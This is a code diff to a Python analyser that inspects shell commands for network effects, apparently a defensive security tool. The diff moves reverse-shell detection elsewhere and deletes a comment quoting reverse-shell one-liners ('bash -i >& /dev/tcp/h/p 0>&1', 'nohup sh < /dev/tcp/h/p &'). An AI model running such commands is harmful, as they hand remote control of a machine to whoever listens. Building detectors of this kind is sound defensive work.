@@ -37,7 +37,7 @@ from pipeline.analysis.shell.model import (
     budget,
 )
 from pipeline.analysis.shell.syntax import Stage, parse
-from pipeline.analysis.shell.tables import PROXY_VARS, SHELLS, WRAPPERS
+from pipeline.analysis.shell.tables import PROXY_VARS
 from pipeline.analysis.shell.tree import PARSE_CPU_SECONDS
 from pipeline.analysis.shell.words import HD_RE, SUB_RE, restore_private
 
@@ -214,12 +214,7 @@ class Analyser:
             tcp = DEV_TCP.match(self.restore(target))
             if tcp:
                 peer = f"{tcp.group(1)}://{tcp.group(2)}:{tcp.group(3)}"
-                ctx.send(peer)
-                if _reads_its_program(words, self.restore):
-                    # a shell with no script of its own and a stream on a raw connection
-                    # (`bash -i >& /dev/tcp/h/p 0>&1`, `nohup sh < /dev/tcp/h/p &`: a reverse
-                    # shell) runs what the peer sends; `bash job.sh > /dev/tcp/h/p` only writes
-                    self.acc.add("executes", peer)
+                ctx.send(peer)  # a shell reading its program from it runs it (cmd_exec.h_shell)
                 if op != "<":
                     for r in list(dict.fromkeys(stdin.resources + tuple(ctx.stage_reads))):
                         ctx.add_payload(r)
@@ -246,21 +241,6 @@ class Analyser:
     def dispatch(self, words: list[str], ctx: Ctx) -> None:
         run_command_words(words, ctx)
 
-
-
-def _reads_its_program(words: list[str], restore: Callable[[str], str]) -> bool:
-    """True for a shell (behind wrappers: sudo, nohup, env X=1, timeout 10, exec) given no
-    script and no ``-c`` text: it runs what arrives on its input."""
-    texts = [restore(w) for w in words]
-    i = 0
-    while i < len(texts) and (texts[i].rsplit("/", 1)[-1] in WRAPPERS or texts[i].startswith("-")
-                              or "=" in texts[i] or re.fullmatch(r"\d+[smhd]?", texts[i])):
-        i += 1
-    if i >= len(texts) or texts[i].rsplit("/", 1)[-1] not in SHELLS:
-        return False
-    rest = texts[i + 1:]
-    return not any(not t.startswith("-") or t == "-c" or (t.startswith("-") and "c" in t[1:] and not t.startswith("--"))
-                   for t in rest)
 
 
 def analyse(cmd: str, code: CodeAnalyser, depth: int = 0) -> ShellAnalysis:
